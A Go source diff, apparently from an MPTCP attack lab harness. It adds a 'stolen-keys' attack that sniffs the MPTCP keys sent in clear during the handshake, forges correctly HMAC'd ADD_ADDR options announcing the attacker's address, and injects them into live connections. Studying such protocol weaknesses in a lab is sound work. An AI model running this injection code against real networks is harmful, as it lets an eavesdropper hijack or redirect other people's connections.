@@ -19,6 +19,10 @@
 //   - remove-addr: the same with REMOVE_ADDR for address id 0 (the
 //     server's initial address, the remote id of every subflow toward it);
 //     REMOVE_ADDR carries no HMAC in RFC 8684.
+//   - stolen-keys: an eavesdropper on the initial handshake (RFC 8684 sec.
+//     5's residual threat) reads both keys from the client's MP_CAPABLE
+//     third ACK and injects ADD_ADDRs announcing its own address with the
+//     correct HMAC: what the keys in clear allow.
 //   - none: nothing is sent (the baseline; the genuine-connection prober
 //     runs in every kind).
 //
@@ -35,7 +39,9 @@ package attack
 import (
 	"bufio"
 	"context"
+	"crypto/hmac"
 	"crypto/rand"
+	"crypto/sha256"
 	"encoding/binary"
 	"errors"
 	"fmt"
@@ -63,10 +69,11 @@ const (
 	JoinHMAC   = "join-hmac"
 	AddAddr    = "add-addr"
 	RemoveAddr = "remove-addr"
+	StolenKeys = "stolen-keys"
 )
 
 // Kinds lists every kind.
-func Kinds() []string { return []string{None, JoinFlood, JoinHMAC, AddAddr, RemoveAddr} }
+func Kinds() []string { return []string{None, JoinFlood, JoinHMAC, AddAddr, RemoveAddr, StolenKeys} }
 
 // Lab is what an attack needs of the lab.
 type Lab interface {
@@ -476,6 +483,8 @@ func (r *Run) startAttack(ctx context.Context) error {
 			})
 		})
 		return nil
+	case StolenKeys:
+		return r.startStolenKeys(ctx)
 	case AddAddr, RemoveAddr:
 		s, err := r.openSender()
 		if err != nil {
@@ -676,4 +685,98 @@ func (r *Run) prober(ctx context.Context) {
 			c.Close()
 		}()
 	}
+}
+
+// startStolenKeys: read the keys of every MPTCP connection to the target
+// from its MP_CAPABLE third ACK (client -> server: the client's key, then
+// the server's), then inject into the connection's newest server -> client
+// segment an ADD_ADDR for our own address whose HMAC is right: HMAC-SHA256
+// keyed by the server's key then the client's over id || address || port
+// (RFC 8684 sec. 3.4.1), the rightmost 64 bits.
+func (r *Run) startStolenKeys(ctx context.Context) error {
+	s, err := r.openSender()
+	if err != nil {
+		return err
+	}
+	sn, err := r.openSniffer()
+	if err != nil {
+		return err
+	}
+	if err := r.onPathRules(false); err != nil {
+		return fmt.Errorf("attack: %w", err)
+	}
+	own := r.lab.Addr(r.cfg.Attacker)
+	type conn struct {
+		client, server uint64 // keys
+		last           *mptcpwire.Segment
+	}
+	var mu sync.Mutex
+	conns := map[uint16]*conn{} // by the client's port
+	r.wg.Add(1)
+	go r.sniff(sn, func(seg *mptcpwire.Segment) {
+		mu.Lock()
+		defer mu.Unlock()
+		switch {
+		case seg.Dst == r.cfg.Target.Addr() && seg.DstPort == r.cfg.Target.Port():
+			o, ok := mptcpwire.Find(seg.Options, mptcpwire.MPCapable)
+			if !ok {
+				return
+			}
+			if c, err := mptcpwire.ParseCapable(o); err == nil && len(c.Keys) == 2 && conns[seg.SrcPort] == nil {
+				conns[seg.SrcPort] = &conn{client: c.Keys[0], server: c.Keys[1]}
+				r.tokens.Add(1) // key pairs learnt
+			}
+		case seg.Src == r.cfg.Target.Addr() && seg.SrcPort == r.cfg.Target.Port() && seg.Flags&mptcpwire.ACK != 0 &&
+			seg.Flags&(mptcpwire.SYN|mptcpwire.RST|mptcpwire.FIN) == 0:
+			if c := conns[seg.DstPort]; c != nil {
+				c.last = seg
+			}
+		}
+	})
+	r.wg.Add(1)
+	go r.paced(ctx, func() error {
+		mu.Lock()
+		var targets []*mptcpwire.Segment
+		var hmacs []uint64
+		for _, c := range conns {
+			if c.last != nil {
+				targets = append(targets, c.last)
+				hmacs = append(hmacs, AddAddrHMAC(c.server, c.client, 42, own, 0))
+			}
+		}
+		mu.Unlock()
+		if len(targets) == 0 {
+			return errNothing
+		}
+		i := int(random32() % uint32(len(targets)))
+		seg := targets[i]
+		opts := []mptcpwire.Option{mptcpwire.AddAddrOpt(42, own, 0, false, hmacs[i])}
+		if ts, ok := findKind(seg.Options, mptcpwire.OptTimestamp); ok {
+			opts = append([]mptcpwire.Option{{Kind: mptcpwire.OptNOP}, {Kind: mptcpwire.OptNOP}, ts}, opts...)
+		}
+		err := s.send(&mptcpwire.Segment{
+			Src: seg.Src, Dst: seg.Dst, ID: uint16(random32()), SrcPort: seg.SrcPort, DstPort: seg.DstPort,
+			Seq: seg.Seq + uint32(len(seg.Payload)), Ack: seg.Ack, Flags: mptcpwire.ACK, Window: seg.Window, Options: opts,
+		})
+		if err == nil {
+			r.injected.Add(1)
+		}
+		return err
+	})
+	return nil
+}
+
+// AddAddrHMAC is ADD_ADDR's truncated HMAC for an IPv4 address (RFC 8684
+// sec. 3.4.1): HMAC-SHA256 keyed by the announcer's key then the peer's,
+// over address id, address and port; the rightmost 64 bits.
+func AddAddrHMAC(senderKey, peerKey uint64, id uint8, addr netip.Addr, port uint16) uint64 {
+	key := binary.BigEndian.AppendUint64(binary.BigEndian.AppendUint64(nil, senderKey), peerKey)
+	a := addr.As4()
+	// The port is always part of the message, 0 when none (as Linux
+	// computes it, add_addr_generate_hmac).
+	msg := binary.BigEndian.AppendUint16(append([]byte{id}, a[:]...), port)
+	m := hmac.New(sha256.New, key)
+	m.Write(msg)
+	sum := m.Sum(nil)
+	return binary.BigEndian.Uint64(sum[len(sum)-8:])
 }
